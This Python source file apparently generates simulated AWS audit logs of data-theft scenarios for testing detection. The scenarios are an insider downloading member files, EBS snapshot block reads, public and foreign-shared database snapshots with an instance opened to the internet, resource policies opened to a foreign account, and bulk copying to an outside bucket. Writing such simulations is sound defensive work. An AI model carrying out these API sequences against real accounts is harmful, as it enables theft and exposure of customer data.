"""Attacks on data: theft by an insider and by strangers, ransom, and destruction."""

from typing import Final

import clock
from company import BUCKETS, CLI, CLI_LINUX, DATA, PEOPLE, SHOP, kms_arn, secret_arn
from record import Caller, session
from shapes import one_object, s3_resources
from story import OUTSIDE, OUTSIDE_TOO, Story, hijacked, new_id, scenario, stolen

RCLONE: Final = "rclone/v1.68.1"
GO_EBS: Final = "aws-sdk-go/1.44.293 (go1.20.5; linux; amd64) coldsnap"


@scenario
def insider_before_leaving(story: Story) -> None:
    """Somebody who has given notice takes the members' list home over three evenings, with rights of their own."""
    bucket = BUCKETS["customers"]
    for day, count in ((14, 12), (15, 60), (16, 140)):
        story.at(day, "21:20", (0.5, 4))
        person = Caller(PEOPLE["mori.s"].key(day).identity, SHOP, "192.0.2.58", CLI)
        story.do(
            "list the members' files",
            person,
            "s3:ListObjects",
            request={"bucketName": bucket, "prefix": "members/", "list-type": "2"},
            resources=s3_resources(bucket, "", DATA)[1:],
            data=True,
        )
        for number in range(count):
            story.do(
                "take one",
                person,
                "s3:GetObject",
                extra={"bytesTransferredOut": 48_120_331, "SignatureVersion": "SigV4"},
                **one_object(bucket, f"members/part-{number:05d}.parquet", DATA),
            )
    story.at(17, "20:45")
    person = PEOPLE["mori.s"].key(17)
    story.do(
        "a snapshot",
        person,
        "rds:CreateDBSnapshot",
        request={"dBSnapshotIdentifier": "verify-mori", "dBInstanceIdentifier": "member-db"},
    )
    story.now += 900
    story.do(
        "to an account of one's own",
        person,
        "rds:ModifyDBSnapshotAttribute",
        request={"dBSnapshotIdentifier": "verify-mori", "attributeName": "restore", "valuesToAdd": [OUTSIDE_TOO]},
        response={
            "dBSnapshotIdentifier": "verify-mori",
            "dBSnapshotAttributes": [{"attributeName": "restore", "attributeValues": [OUTSIDE_TOO]}],
        },
    )
    story.do(
        "query all addresses",
        person,
        "athena:StartQueryExecution",
        request={
            "queryString": "***OMITTED***",
            "workGroup": "primary",
            "resultConfiguration": {"outputLocation": "s3://mori-private-example/out/"},
        },
        denied="identity",
    )


@scenario
def ebs_direct_reads(story: Story) -> None:
    """Disks are read block by block through the direct interface: nothing is shared, no volume is made."""
    identity = session(SHOP, "shop-eks-node-role", "i-0d1d2d3d4d5d6d7d8", clock.Day(12).at("00:30"), delivery="2.0")
    thief = Caller(identity, SHOP, "198.51.100.139", GO_EBS)
    story.at(12, "03:33", (0.05, 0.6))
    story.do(
        "which snapshots",
        thief,
        "ec2:DescribeSnapshots",
        request={"snapshotSet": {}, "ownersSet": {"items": [{"owner": "self"}]}, "sharedUsersSet": {}, "filterSet": {}},
    )
    snapshot = new_id(story, "snap")
    held = [
        {"accountId": SHOP, "type": "AWS::EC2::Snapshot", "ARN": f"arn:aws:ec2:ap-northeast-1::snapshot/{snapshot}"}
    ]
    story.do(
        "which blocks",
        thief,
        "ebs:ListSnapshotBlocks",
        request={"snapshotId": snapshot, "maxResults": 10000, "startingBlockIndex": 0},
        resources=held,
        data=True,
    )
    for number in range(220):
        story.do(
            "a block",
            thief,
            "ebs:GetSnapshotBlock",
            request={"snapshotId": snapshot, "blockIndex": number * 3, "blockToken": "EXAMPLEtokenEXAMPLE"},
            resources=held,
            data=True,
        )
    story.do(
        "share another way",
        thief,
        "ec2:ModifySnapshotAttribute",
        request={
            "snapshotId": snapshot,
            "attributeType": "CREATE_VOLUME_PERMISSION",
            "createVolumePermission": {"add": {"items": [{"userId": OUTSIDE}]}},
        },
        denied="identity",
    )


@scenario
def public_database_snapshot(story: Story) -> None:
    """A snapshot of the database becomes public, another goes to a foreign account, a copy of the cluster is opened."""
    thief = stolen("watanabe.h", "203.0.113.7", CLI_LINUX)
    story.at(26, "04:48")
    story.several(
        "which databases",
        thief,
        [
            ("sts:GetCallerIdentity", None),
            ("rds:DescribeDBInstances", {}),
            ("rds:DescribeDBSnapshots", {"snapshotType": "manual"}),
        ],
    )
    story.do(
        "a snapshot",
        thief,
        "rds:CreateDBSnapshot",
        request={"dBSnapshotIdentifier": "tmp-check", "dBInstanceIdentifier": "member-db"},
    )
    story.do(
        "encrypted ones stay private",
        thief,
        "rds:ModifyDBSnapshotAttribute",
        request={"dBSnapshotIdentifier": "tmp-check", "attributeName": "restore", "valuesToAdd": ["all"]},
        error=("InvalidParameterCombinationException", "Snapshots encrypted with KMS keys can't be shared publicly."),
    )
    story.do(
        "public",
        thief,
        "rds:ModifyDBClusterSnapshotAttribute",
        request={
            "dBClusterSnapshotIdentifier": "reporting-2026-09",
            "attributeName": "restore",
            "valuesToAdd": ["all"],
        },
        response={
            "dBClusterSnapshotIdentifier": "reporting-2026-09",
            "dBClusterSnapshotAttributes": [{"attributeName": "restore", "attributeValues": ["all"]}],
        },
    )
    story.do(
        "to a foreign account",
        thief,
        "rds:ModifyDBClusterSnapshotAttribute",
        request={"dBClusterSnapshotIdentifier": "shop-2026-10", "attributeName": "restore", "valuesToAdd": [OUTSIDE]},
    )
    story.do(
        "a copy in the open",
        thief,
        "rds:RestoreDBInstanceFromDBSnapshot",
        request={
            "dBInstanceIdentifier": "member-db-2",
            "dBSnapshotIdentifier": "tmp-check",
            "publiclyAccessible": True,
            "dBInstanceClass": "db.t4g.medium",
        },
    )
    story.do(
        "with a password of their own",
        thief,
        "rds:ModifyDBInstance",
        request={
            "dBInstanceIdentifier": "member-db-2",
            "masterUserPassword": "****",
            "applyImmediately": True,
            "allowMajorVersionUpgrade": False,
        },
    )
    story.do(
        "and reach it",
        thief,
        "ec2:AuthorizeSecurityGroupIngress",
        request={
            "groupId": new_id(story, "sg"),
            "ipPermissions": {
                "items": [
                    {
                        "ipProtocol": "tcp",
                        "fromPort": 3306,
                        "toPort": 3306,
                        "groups": {},
                        "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]},
                        "ipv6Ranges": {},
                        "prefixListIds": {},
                    }
                ]
            },
        },
    )
    story.do(
        "an export of everything",
        thief,
        "rds:StartExportTask",
        request={
            "exportTaskIdentifier": "e1",
            "sourceArn": f"arn:aws:rds:ap-northeast-1:{SHOP}:snapshot:tmp-check",
            "s3BucketName": "example-bucket-outside",
            "iamRoleArn": f"arn:aws:iam::{SHOP}:role/batch-server-role",
            "kmsKeyId": kms_arn(SHOP, "shop"),
        },
        denied="scp",
    )


@scenario
def resource_policies_opened(story: Story) -> None:
    """One door for each kind of resource: policies that let a foreign account in, without any identity."""
    thief = hijacked(PEOPLE["suzuki.m"], clock.Day(7).at("20:00"), "203.0.113.35", PEOPLE["suzuki.m"].browser)
    story.at(7, "22:10", (10, 60))
    foreign = f"arn:aws:iam::{OUTSIDE}:root"

    def statement(action: str) -> str:
        return f'{{"Version":"2012-10-17","Statement":[{{"Effect":"Allow","Principal":{{"AWS":"{foreign}"}},"Action":"{action}","Resource":"*"}}]}}'

    story.do(
        "bucket",
        thief,
        "s3:PutBucketPolicy",
        request={
            "bucketName": BUCKETS["orders"],
            "policy": "",
            "bucketPolicy": {
                "Version": "2012-10-17",
                "Statement": [
                    {
                        "Effect": "Allow",
                        "Principal": {"AWS": foreign},
                        "Action": ["s3:GetObject", "s3:ListBucket"],
                        "Resource": [f"arn:aws:s3:::{BUCKETS['orders']}", f"arn:aws:s3:::{BUCKETS['orders']}/*"],
                    }
                ],
            },
        },
    )
    story.do(
        "key",
        thief,
        "kms:PutKeyPolicy",
        request={
            "keyId": kms_arn(SHOP, "orders"),
            "policyName": "default",
            "policy": statement("kms:*"),
            "bypassPolicyLockoutSafetyCheck": False,
        },
    )
    story.do(
        "grant",
        thief,
        "kms:CreateGrant",
        request={"keyId": kms_arn(SHOP, "shop"), "granteePrincipal": foreign, "operations": ["Decrypt", "CreateGrant"]},
    )
    story.do(
        "secret",
        thief,
        "secretsmanager:PutResourcePolicy",
        request={
            "secretId": secret_arn("prod/payment/gateway"),
            "resourcePolicy": statement("secretsmanager:GetSecretValue"),
            "blockPublicPolicy": False,
        },
    )
    story.do(
        "queue",
        thief,
        "sqs:SetQueueAttributes",
        request={
            "queueUrl": f"https://sqs.ap-northeast-1.amazonaws.com/{SHOP}/order-events",
            "attributes": {"Policy": statement("sqs:*")},
        },
    )
    story.do(
        "topic",
        thief,
        "sns:AddPermission",
        request={
            "topicArn": f"arn:aws:sns:ap-northeast-1:{SHOP}:batch-report",
            "label": "x",
            "aWSAccountId": [OUTSIDE],
            "actionName": ["Subscribe"],
        },
    )
    story.do(
        "images",
        thief,
        "ecr:SetRepositoryPolicy",
        request={"repositoryName": "member-api", "registryId": SHOP, "policyText": statement("ecr:*"), "force": False},
    )
    story.do(
        "function",
        thief,
        "lambda:AddPermission20150331v2",
        request={
            "functionName": "shop-coupon-issue",
            "statementId": "x",
            "action": "lambda:InvokeFunction",
            "principal": OUTSIDE,
        },
    )
    story.do(
        "machine image",
        thief,
        "ec2:ModifyImageAttribute",
        request={
            "imageId": new_id(story, "ami"),
            "attributeType": "launchPermission",
            "launchPermission": {"add": {"items": [{"userId": OUTSIDE}]}},
        },
    )
    story.do(
        "disk, for everybody",
        thief,
        "ec2:ModifySnapshotAttribute",
        request={
            "snapshotId": new_id(story, "snap"),
            "attributeType": "CREATE_VOLUME_PERMISSION",
            "createVolumePermission": {"add": {"items": [{"group": "all"}]}},
        },
        error=(
            "Client.OperationNotPermitted",
            "You do not have permission to share snapshots publicly: block public access is enabled",
        ),
    )
    story.do(
        "replication",
        thief,
        "s3:PutBucketReplication",
        request={
            "bucketName": BUCKETS["orders"],
            "replication": "",
            "ReplicationConfiguration": {
                "Role": f"arn:aws:iam::{SHOP}:role/s3-replication",
                "Rule": {
                    "Status": "Enabled",
                    "Destination": {"Bucket": "arn:aws:s3:::example-bucket-outside", "Account": OUTSIDE},
                },
            },
        },
    )


@scenario
def bulk_copy_of_orders(story: Story) -> None:
    """The batch server's own role, on its own address, copies to a foreign bucket: only the amount and the place differ."""
    identity = session(SHOP, "batch-server-role", "i-0b1b2b3b4b5b6b7b8", clock.Day(23).at("18:00"), delivery="2.0")
    inside = Caller(identity, SHOP, "10.20.0.17", RCLONE, endpoint="vpce-0a1b2c3d4e5f6a7b8")
    story.at(23, "23:15", (0.1, 1))
    for number in range(160):
        key = f"daily/orders-{number:05d}.csv.gz"
        story.do(
            "read",
            inside,
            "s3:GetObject",
            extra={"bytesTransferredOut": 9_120_331},
            **one_object(BUCKETS["orders"], key, SHOP),
        )
        if number % 2:
            story.do("written outside", inside, "s3:PutObject", **one_object("example-bucket-outside", key, OUTSIDE))
